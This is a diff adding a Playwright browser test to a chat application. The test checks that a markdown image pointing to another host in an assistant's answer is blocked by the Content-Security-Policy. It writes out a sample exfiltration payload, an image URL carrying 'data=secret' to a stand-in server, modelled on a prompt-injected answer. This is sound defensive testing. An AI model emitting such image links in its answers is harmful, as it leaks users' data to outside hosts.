@@ -4,13 +4,17 @@ import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertTha
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.math.BigDecimal;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.concurrent.atomic.AtomicInteger;
 import java.util.regex.Pattern;
 
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
+import com.sun.net.httpserver.HttpServer;
 import dev.tokentally.base.Money;
 import dev.tokentally.base.ui.MoneyText;
 import dev.tokentally.chat.providers.ModelClients;
@@ -87,5 +91,41 @@ class ChatBrowserTest extends BrowserTest {
         assertThat(page.locator("#charge-billed")).containsText(shown);
         page.screenshot(new Page.ScreenshotOptions().setPath(Path.of("target/screenshots/chat-charge.png")));
         assertThat(scriptRan.get()).as("no script from the message ran").isFalse();
+    }
+
+    @Test
+    void a_markdown_image_of_another_host_in_an_answer_is_not_loaded() throws Exception {
+        AtomicInteger requests = new AtomicInteger();
+        HttpServer elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        elsewhere.createContext("/", exchange -> {
+            requests.incrementAndGet();
+            exchange.sendResponseHeaders(204, -1);
+            exchange.close();
+        });
+        elsewhere.start();
+        try {
+            signIn("alice@acme.test", "demo");
+            page.waitForURL(Pattern.compile(".*/$|.*/dashboard$|.*/chat$"));
+            var chat = page.navigate("http://localhost:" + port + "/chat");
+            assertThat(chat.headers().get("content-security-policy")).contains("img-src 'self' data:");
+            page.locator("#new-thread").click();
+            page.waitForURL(Pattern.compile(".*/chat/\\d+$"));
+
+            // The demo model quotes the question, so its answer carries the image as an injected answer would.
+            String image = "![chart](http://127.0.0.1:" + elsewhere.getAddress().getPort() + "/leak.png?data=secret)";
+            page.locator("#chat-input textarea").fill(image);
+            page.locator("#chat-input textarea").press("Enter");
+            Locator answer = page.locator("[data-role=assistant]");
+            assertThat(answer.locator(".tt-answer-cost")).isVisible();
+            Locator images = answer.locator("img[src*='leak.png']");
+            assertThat(images).hasCount(1);
+            page.waitForCondition(() -> (Boolean) images.evaluate("image => image.complete"));
+
+            assertThat(requests.get()).as("requests that reached the other host").isZero();
+            assertThat(cspViolations).isNotEmpty().allSatisfy(violation -> assertThat(violation).contains("img-src"));
+            cspViolations.clear();
+        } finally {
+            elsewhere.stop(0);
+        }
     }
 }
